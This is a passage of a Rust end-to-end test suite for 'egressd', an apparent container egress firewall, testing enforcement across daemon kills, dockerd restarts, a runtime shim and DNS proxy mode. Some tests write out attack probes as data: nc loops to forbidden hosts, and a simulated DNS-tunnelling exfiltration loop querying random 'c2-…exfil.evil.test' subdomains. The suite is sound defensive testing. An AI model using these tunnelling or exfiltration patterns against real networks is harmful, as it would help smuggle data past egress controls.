                    "while true; do nc -w 1 {api} 8443 </dev/null && echo hit >> /hits; echo try >> /tries; done"
                ),
            ]);
            std::thread::sleep(Duration::from_secs(1));
            fx.kill9_daemon();
            std::thread::sleep(Duration::from_secs(1));
            assert!(
                fx.has_egressd_table("egressd-e2e-prober"),
                "rules stay in the kernel after kill -9"
            );
            fx.start_daemon();
            assert!(wait(Duration::from_secs(10), || fx
                .state_of("egressd-e2e-prober")
                == Some(State::Enforced)));
            std::thread::sleep(Duration::from_secs(1));
            must(&[
                "docker",
                "exec",
                "egressd-e2e-prober",
                "sh",
                "-c",
                "pkill -f 'while true' || true",
            ]);
            let tries = sh(&[
                "docker",
                "exec",
                "egressd-e2e-prober",
                "sh",
                "-c",
                "wc -l < /tries",
            ])
            .1;
            let hits = sh(&[
                "docker",
                "exec",
                "egressd-e2e-prober",
                "sh",
                "-c",
                "cat /hits 2>/dev/null | wc -l",
            ])
            .1;
            let tries: u32 = tries.trim().parse().unwrap_or(0);
            assert!(tries > 10, "the probe ran ({tries} tries)");
            assert_eq!(
                hits.trim(),
                "0",
                "forbidden connections that got through during kill -9/restart"
            );
            assert!(
                fx.connects("egressd-e2e-prober", &api, 443),
                "allowed traffic resumes"
            );
        },
    );

    scenario(
        "dockerd restart: the daemon reconnects, resyncs and enforcement stays",
        || {
            fx.run_container(
                "egressd-e2e-survivor",
                &["--restart", "always", "--dns", &fx.gateway()],
                &[("egressd.enable", "true"), ("egressd.profiles", "openai")],
                "sleep 3600",
            );
            assert!(wait(Duration::from_secs(10), || fx
                .state_of("egressd-e2e-survivor")
                == Some(State::Enforced)));
            restart_dockerd();
            assert!(
                wait(Duration::from_secs(60), || {
                    fx.status().is_some_and(|s| s.docker_connected)
                        && fx.state_of("egressd-e2e-survivor") == Some(State::Enforced)
                        && must(&[
                            "docker",
                            "inspect",
                            "-f",
                            "{{.State.Running}}",
                            "egressd-e2e-survivor",
                        ]) == "true"
                        && fx.has_egressd_table("egressd-e2e-survivor")
                }),
                "enforced again after dockerd restart:\n{}",
                fx.daemon_log()
            );
            assert!(wait(Duration::from_secs(10), || fx.connects(
                "egressd-e2e-survivor",
                &api,
                443
            )));
            assert!(!fx.connects("egressd-e2e-survivor", &api, 8443));
        },
    );
}

/// Stops dockerd and starts it again the way scripts/lib/setup.sh does.
fn restart_dockerd() {
    let pid = std::fs::read_to_string("/var/run/docker.pid").unwrap_or_default();
    let pid = pid.trim();
    assert!(!pid.is_empty(), "dockerd pid file");
    must(&["kill", "-TERM", pid]);
    assert!(wait(Duration::from_secs(30), || !Path::new(&format!(
        "/proc/{pid}"
    ))
    .exists()));
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/lib/setup.sh");
    must(&[
        "bash",
        "-c",
        &format!(". {} && ensure_dockerd", script.display()),
    ]);
}

/// Name under which the tests register the runtime shim in /etc/docker/daemon.json (removed
/// again when the fixture is dropped; `install-runtime` keeps a backup of the file).
const RUNTIME: &str = "egressd-e2e";

fn hup_dockerd() {
    let pid = std::fs::read_to_string("/var/run/docker.pid").unwrap_or_default();
    must(&["kill", "-HUP", pid.trim()]);
}

fn register_runtime(fx: &Fixture) {
    let out = must(&[
        env!("CARGO_BIN_EXE_egressd"),
        "install-runtime",
        "--name",
        RUNTIME,
        "--config",
        fx.config_path().to_str().unwrap(),
    ]);
    eprintln!("{out}");
    hup_dockerd();
    assert!(
        wait(Duration::from_secs(10), || sh(&[
            "docker",
            "info",
            "--format",
            "{{json .Runtimes}}"
        ])
        .1
        .contains(RUNTIME)),
        "dockerd did not pick up the runtime"
    );
}

fn unregister_runtime() {
    let (ok, _) = sh(&[
        env!("CARGO_BIN_EXE_egressd"),
        "install-runtime",
        "--name",
        RUNTIME,
        "--remove",
    ]);
    if ok {
        hup_dockerd();
    }
}

/// Entrypoint that, from its first instruction, tries `n` HTTP requests to a forbidden
/// target and prints TRY for each attempt and LEAK for each answer.
fn probe_cmd(target: &str, n: u32) -> String {
    format!(
        "i=0; while [ $i -lt {n} ]; do echo TRY; printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 1 {target} 443 2>/dev/null | grep -q ok && echo LEAK; i=$((i+1)); done"
    )
}

/// `docker run --rm` of a labelled probe container (openai allowed, `target` forbidden);
/// returns (tries, leaks).
fn run_probe(fx: &Fixture, name: &str, runtime: Option<&str>, target: &str, n: u32) -> (u32, u32) {
    let mut args = vec![
        "docker".to_string(),
        "run".into(),
        "--rm".into(),
        "--name".into(),
        name.into(),
        "--label".into(),
        LABEL.into(),
        "--label".into(),
        "egressd.enable=true".into(),
        "--label".into(),
        "egressd.profiles=openai".into(),
        "--network".into(),
        fx.net.clone(),
        "--dns".into(),
        fx.gateway(),
    ];
    if let Some(r) = runtime {
        args.push("--runtime".into());
        args.push(r.into());
    }
    args.extend([
        IMAGE.to_string(),
        "sh".into(),
        "-c".into(),
        probe_cmd(target, n),
    ]);
    let refs: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = must(&refs);
    let count = |w: &str| out.lines().filter(|l| l.trim() == w).count() as u32;
    (count("TRY"), count("LEAK"))
}

/// The OCI runtime shim (issue 6): registered in dockerd, containers started with
/// `--runtime egressd-e2e` get their table from the prestart hook, before their process runs.
fn runtime_scenarios(fx: &mut Fixture) {
    let (api, other) = (fx.ip(10), fx.ip(11));
    register_runtime(fx);

    scenario(
        "leak window: 0 forbidden successes over 20 starts through the shim (event path counted)",
        || {
            let mut shim = (0, 0);
            let mut events = (0, 0);
            for i in 0..20 {
                let (t, l) = run_probe(
                    fx,
                    &format!("egressd-e2e-leak-{i}"),
                    Some(RUNTIME),
                    &other,
                    20,
                );
                shim = (shim.0 + t, shim.1 + l);
                let (t, l) = run_probe(fx, &format!("egressd-e2e-leakev-{i}"), None, &other, 20);
                events = (events.0 + t, events.1 + l);
            }
            eprintln!(
                "    leak count over 20 starts: with the shim {} of {} tries, event-driven {} of {} tries",
                shim.1, shim.0, events.1, events.0
            );
            assert_eq!(shim.0, 400, "every probe ran");
            assert_eq!(
                shim.1, 0,
                "forbidden connections before the table was in place"
            );
        },
    );

    scenario(
        "through the shim: exec, logs, restart, stop and unlabelled containers work",
        || {
            let id = fx.run_container(
                "egressd-e2e-shim",
                &["--runtime", RUNTIME, "--dns", &fx.gateway()],
                &[("egressd.enable", "true"), ("egressd.profiles", "openai")],
                "echo started; sleep 3600",
            );
            let st = fx.status().unwrap();
            let c = st
                .containers
                .iter()
                .find(|c| c.name == "egressd-e2e-shim")
                .expect("enforced before docker run returned");
            assert_eq!(c.state, State::Enforced);
            assert_eq!(c.enforced_by, "hook");
            assert!(
                fx.connects("egressd-e2e-shim", &api, 443),
                "allowed via exec"
            );
            assert!(
                !fx.connects("egressd-e2e-shim", &api, 8443),
                "denied via exec"
            );
            assert!(must(&["docker", "logs", "egressd-e2e-shim"]).contains("started"));
            must(&["docker", "restart", "-t", "0", "egressd-e2e-shim"]);
            assert!(wait(Duration::from_secs(10), || {
                let pid = must(&["docker", "inspect", "-f", "{{.State.Pid}}", &id]);
                fx.status().is_some_and(|s| {
                    s.containers.iter().any(|c| {
                        c.name == "egressd-e2e-shim"
                            && c.enforced_by == "hook"
                            && c.state == State::Enforced
                    })
                }) && pid != "0"
            }));
            assert!(
                fx.has_egressd_table("egressd-e2e-shim"),
                "new netns has its table"
            );
            assert!(!fx.connects("egressd-e2e-shim", &other, 443));
            assert!(fx.connects("egressd-e2e-shim", &api, 443));
            must(&["docker", "stop", "-t", "0", "egressd-e2e-shim"]);
            assert_eq!(
                must(&[
                    "docker",
                    "inspect",
                    "-f",
                    "{{.State.Running}}",
                    "egressd-e2e-shim"
                ]),
                "false"
            );
            fx.run_container(
                "egressd-e2e-shim-plain",
                &["--runtime", RUNTIME],
                &[],
                "sleep 3600",
            );
            assert!(!fx.has_egressd_table("egressd-e2e-shim-plain"));
            assert!(
                fx.connects("egressd-e2e-shim-plain", &other, 443),
                "unlabelled: untouched"
            );
            assert!(fx.state_of("egressd-e2e-shim-plain").is_none());
        },
    );

    scenario(
        "through the shim: --cap-add NET_ADMIN with the label is refused at start",
        || {
            let _ = sh(&["docker", "rm", "-f", "egressd-e2e-shim-cap"]);
            let (ok, out) = sh(&[
                "docker",
                "run",
                "-d",
                "--name",
                "egressd-e2e-shim-cap",
                "--label",
                LABEL,
                "--label",
                "egressd.enable=true",
                "--network",
                &fx.net,
                "--cap-add",
                "NET_ADMIN",
                "--runtime",
                RUNTIME,
                IMAGE,
                "sleep",
                "3600",
            ]);
            assert!(!ok, "must not start: {out}");
            assert!(
                out.contains("CAP_NET_ADMIN") && out.contains("not starting it"),
                "clear error: {out}"
            );
            assert_eq!(
                must(&[
                    "docker",
                    "inspect",
                    "-f",
                    "{{.State.Running}}",
                    "egressd-e2e-shim-cap"
                ]),
                "false"
            );
        },
    );

    scenario(
        "through the shim: 30 labelled containers at once, confined from their first packet",
        || {
            let other = other.clone();
            let handles: Vec<_> = (0..30)
                .map(|i| {
                    let fx_net = fx.net.clone();
                    let gw = fx.gateway();
                    let other = other.clone();
                    std::thread::spawn(move || {
                        let probe = probe_cmd(&other, 3);
                        let name = format!("egressd-e2e-burst-{i}");
                        let args = [
                            "docker",
                            "run",
                            "--rm",
                            "--name",
                            &name,
                            "--label",
                            LABEL,
                            "--label",
                            "egressd.enable=true",
                            "--label",
                            "egressd.profiles=openai",
                            "--network",
                            &fx_net,
                            "--dns",
                            &gw,
                            "--runtime",
                            RUNTIME,
                            IMAGE,
                            "sh",
                            "-c",
                            &probe,
                        ];
                        let out = must(&args);
                        let tries = out.lines().filter(|l| l.trim() == "TRY").count();
                        let leaks = out.lines().filter(|l| l.trim() == "LEAK").count();
                        (tries, leaks)
                    })
                })
                .collect();
            let (mut tries, mut leaks) = (0, 0);
            for h in handles {
                let (t, l) = h.join().unwrap();
                tries += t;
                leaks += l;
            }
            assert_eq!(tries, 90, "every probe ran");
            assert_eq!(
                leaks, 0,
                "forbidden connections in a burst through the shim"
            );
        },
    );

    scenario(
        "daemon stopped: a labelled container does not start, an unlabelled one does",
        || {
            fx.kill9_daemon();
            let _ = sh(&["docker", "rm", "-f", "egressd-e2e-shim-down"]);
            let (ok, out) = sh(&[
                "docker",
                "run",
                "-d",
                "--name",
                "egressd-e2e-shim-down",
                "--label",
                LABEL,
                "--label",
                "egressd.enable=true",
                "--network",
                &fx.net,
                "--runtime",
                RUNTIME,
                IMAGE,
                "sleep",
                "3600",
            ]);
            assert!(!ok, "labelled container started without egressd: {out}");
            assert!(
                out.contains("is labelled for egressd") && out.contains("not started"),
                "the error says why: {out}"
            );
            let (ok, out) = sh(&[
                "docker",
                "run",
                "--rm",
                "--label",
                LABEL,
                "--network",
                &fx.net,
                "--runtime",
                RUNTIME,
                IMAGE,
                "echo",
                "plain-ok",
            ]);
            assert!(
                ok && out.contains("plain-ok"),
                "unlabelled container: {out}"
            );
            fx.start_daemon();
        },
    );
}

/// Proxy mode (issue 4), per container with `egressd.dns=proxy`: every query that leaves the
/// container is answered by egressd in its namespace.
fn proxy_scenarios(fx: &mut Fixture) {
    let p = fx.prefix.clone();
    let api = fx.ip(10);
    let proxy_agent = |name: &str, allow: &str| {
        fx.agent(name, &[("egressd.dns", "proxy"), ("egressd.allow", allow)]);
        let c = fx.container_status(name).expect("in status");
        assert_eq!(c.dns_mode, "proxy", "{c:?}");
        assert_eq!(c.state, State::Enforced, "{c:?}");
    };
    let upstream_log = || std::fs::read_to_string(fx.dir.join("dns.log")).unwrap_or_default();

    scenario(
        "proxy: rotation: every address the container receives connects at once, no other does",
        || {
            proxy_agent("egressd-e2e-px-rot", "rot.test:443");
            // Before any lookup nothing is allowed, not even the rotation targets.
            assert!(!fx.connects("egressd-e2e-px-rot", &format!("{p}.20"), 443));
            let (_, out) = fx.exec(
                "egressd-e2e-px-rot",
                "for i in 1 2 3 4 5 6 7 8; do ip=$(nslookup rot.test | sed -n 's/^Address: //p' | tail -n 1); \
                 if printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 2 \"$ip\" 443 | grep -q ok; then echo \"OK $ip\"; else echo \"FAIL $ip\"; fi; done",
            );
            let ok: Vec<&str> = out.lines().filter_map(|l| l.strip_prefix("OK ")).collect();
            assert_eq!(
                ok.len(),
                8,
                "every received address connected at once:\n{out}"
            );
            let distinct: std::collections::BTreeSet<&str> = ok.iter().copied().collect();
            assert_eq!(distinct.len(), 4, "the DNS rotated over .20-.23: {out}");
            assert!(
                !fx.connects("egressd-e2e-px-rot", &format!("{p}.24"), 443),
                "an address it never received does not connect"
            );
            let c = fx.container_status("egressd-e2e-px-rot").unwrap();
            let r = c
                .resolved
                .iter()
                .find(|r| r.name == "rot.test")
                .expect("status lists rot.test");
            assert!(!r.addrs.is_empty() && r.queries >= 8, "{r:?}");
            assert!(
                c.hosts
                    .iter()
                    .any(|h| h.host == "rot.test" && !h.addrs.is_empty()),
                "{c:?}"
            );
        },
    );

    scenario(
        "proxy: tunnelling: 200 random subdomains of a denied domain are refused, none reach the upstream",
        || {
            proxy_agent("egressd-e2e-px-tun", "api.openai.com");
            let (_, out) = fx.exec(
                "egressd-e2e-px-tun",
                "i=0; while [ $i -lt 200 ]; do i=$((i+1)); \
                 nslookup \"c2-$i-$RANDOM$RANDOM.exfil.evil.test\" 2>&1 | grep -q REFUSED && echo R; done",
            );
            assert_eq!(
                out.lines().filter(|l| l.trim() == "R").count(),
                200,
                "{out}"
            );
            let log = upstream_log();
            assert!(
                !log.contains("evil.test"),
                "a refused name reached the upstream:\n{log}"
            );
            let c = fx.container_status("egressd-e2e-px-tun").unwrap();
            assert!(c.dns.as_ref().is_some_and(|d| d.refused >= 200), "{c:?}");
            let tunnel: Vec<&Event> = c
                .events
                .iter()
                .filter(|e| e.kind == EventKind::DnsTunnel)
                .collect();
            assert_eq!(tunnel.len(), 1, "one tunnelling warning: {:?}", c.events);
            assert_eq!(tunnel[0].name.as_deref(), Some("evil.test"));
            // The allowed name still resolves.
            assert_eq!(
                fx.lookup("egressd-e2e-px-tun", "api.openai.com", None),
                Ok(vec![api.clone()])
            );
        },
    );

    scenario(
        "proxy: a query sent straight to another server's port 53 is intercepted",
        || {
            // A second fake DNS on another address of this host's side of the network.
            let second = format!("{p}.53");
            let bridge = format!(
                "br-{}",
                &must(&["docker", "network", "inspect", "-f", "{{.Id}}", &fx.net])[..12]
            );
            must(&["ip", "addr", "add", &format!("{second}/32"), "dev", &bridge]);
            let log2 = fx.dir.join("dns2.log");
            let records2 = fx.dir.join("records2");
            std::fs::write(
                &records2,
                format!("api.openai.com A {p}.11 30\nevil.test A {p}.11 30\n"),
            )
            .unwrap();
            let mut dns2 = Command::new(target_dir().join("examples/fake_dns"))
                .args(["--listen", &format!("{second}:53"), "--records"])
                .arg(&records2)
                .arg("--log")
                .arg(&log2)
                .stdout(Stdio::null())
                .spawn()
                .unwrap();
            fx.run_container("egressd-e2e-px-free", &[], &[], "sleep 3600");
            let control = wait(Duration::from_secs(5), || {
                fx.lookup("egressd-e2e-px-free", "api.openai.com", Some(&second))
                    .is_ok()
            });
            assert!(control, "the second server answers an unconfined container");
            let before = std::fs::read_to_string(&log2)
                .unwrap_or_default()
                .lines()
                .count();
            assert!(before >= 1, "the second server logs what it gets");
            proxy_agent("egressd-e2e-px-direct", "api.openai.com");
            // Allowed name: answered by egressd (from the first server: .10, not .11).
            assert_eq!(
                fx.lookup("egressd-e2e-px-direct", "api.openai.com", Some(&second)),
                Ok(vec![api.clone()])
            );
            // Not allowed: refused.
            let denied = fx.lookup("egressd-e2e-px-direct", "evil.test", Some(&second));
            assert!(
                denied.as_ref().is_err_and(|e| e.contains("REFUSED")),
                "{denied:?}"
            );
            // TCP too.
            let (rcode, addrs) = fx.tcp_lookup("egressd-e2e-px-direct", &second, "api.openai.com");
            assert_eq!((rcode.as_str(), addrs), ("No Error", vec![api.clone()]));
            let after = std::fs::read_to_string(&log2)
                .unwrap_or_default()
                .lines()
                .count();
            assert_eq!(
                after, before,
                "nothing from the confined container reached the second server"
            );
            let _ = dns2.kill();
            let _ = dns2.wait();
            let _ = sh(&["ip", "addr", "del", &format!("{second}/32"), "dev", &bridge]);
        },
    );

    scenario(
        "proxy: *.allowed.test allows a.allowed.test, not allowed.test or a.allowed.test.evil.test",
        || {
            proxy_agent("egressd-e2e-px-wild", "*.allowed.test");
            assert!(!fx.connects("egressd-e2e-px-wild", &api, 443));
            assert_eq!(
                fx.lookup("egressd-e2e-px-wild", "a.allowed.test", None),
                Ok(vec![api.clone()])
            );
            assert!(
                fx.connects("egressd-e2e-px-wild", &api, 443),
                "answered address connects"
            );
            for n in ["allowed.test", "a.allowed.test.evil.test"] {
                let r = fx.lookup("egressd-e2e-px-wild", n, None);
                assert!(
                    r.as_ref().is_err_and(|e| e.contains("REFUSED")),
                    "{n}: {r:?}"
                );
            }
        },
    );

    scenario(
        "proxy: rebinding: an allowed name answering a private address outside the allowlist gets no connection",
        || {
            let private = format!("{p}.100");
            fx.run_container("egressd-e2e-px-free2", &[], &[], "sleep 3600");
            assert!(
                fx.connects("egressd-e2e-px-free2", &private, 443),
                "the target is live"
            );
            proxy_agent("egressd-e2e-px-rebind", "rebind.test");
            let r = fx.lookup("egressd-e2e-px-rebind", "rebind.test", None);
            assert!(
                r.is_err(),
                "the private address was stripped from the answer: {r:?}"
            );
            assert!(!fx.connects("egressd-e2e-px-rebind", &private, 443));
            let c = fx.container_status("egressd-e2e-px-rebind").unwrap();
            assert!(c.dns.as_ref().is_some_and(|d| d.stripped >= 1), "{c:?}");
        },
    );

    scenario(
        "proxy: DNS over TCP works for an allowed name and is refused for others",
        || {
            proxy_agent("egressd-e2e-px-tcp", "api.openai.com");
            let (rcode, addrs) =
                fx.tcp_lookup("egressd-e2e-px-tcp", "127.0.0.11", "api.openai.com");
            assert_eq!((rcode.as_str(), addrs), ("No Error", vec![api.clone()]));
            assert!(fx.connects("egressd-e2e-px-tcp", &api, 443));
            let (rcode, addrs) = fx.tcp_lookup("egressd-e2e-px-tcp", "127.0.0.11", "evil.test");
            assert_eq!((rcode.as_str(), addrs.len()), ("Query Refused", 0));
        },
    );

    scenario(
        "proxy: a sibling container name resolves when allowed and is refused when not",
        || {
            fx.run_container(
                "egressd-e2e-px-db",
                &[],
                &[],
                "mkdir -p /w && echo ok > /w/index.html && httpd -f -p 5432 -h /w",
            );
            fx.run_container("egressd-e2e-px-cache", &[], &[], "sleep 3600");
            proxy_agent("egressd-e2e-px-sib", "egressd-e2e-px-db:5432");
            let db_ip = must(&[
                "docker",
                "inspect",
                "-f",
                "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
                "egressd-e2e-px-db",
            ]);
            assert!(
                !fx.connects("egressd-e2e-px-sib", &db_ip, 5432),
                "not before the lookup"
            );
            assert_eq!(
                fx.lookup("egressd-e2e-px-sib", "egressd-e2e-px-db", None),
                Ok(vec![db_ip.clone()])
            );
            assert!(
                fx.connects("egressd-e2e-px-sib", &db_ip, 5432),
                "the sibling connects"
            );
            let r = fx.lookup("egressd-e2e-px-sib", "egressd-e2e-px-cache", None);
            assert!(r.as_ref().is_err_and(|e| e.contains("REFUSED")), "{r:?}");
        },
    );
}
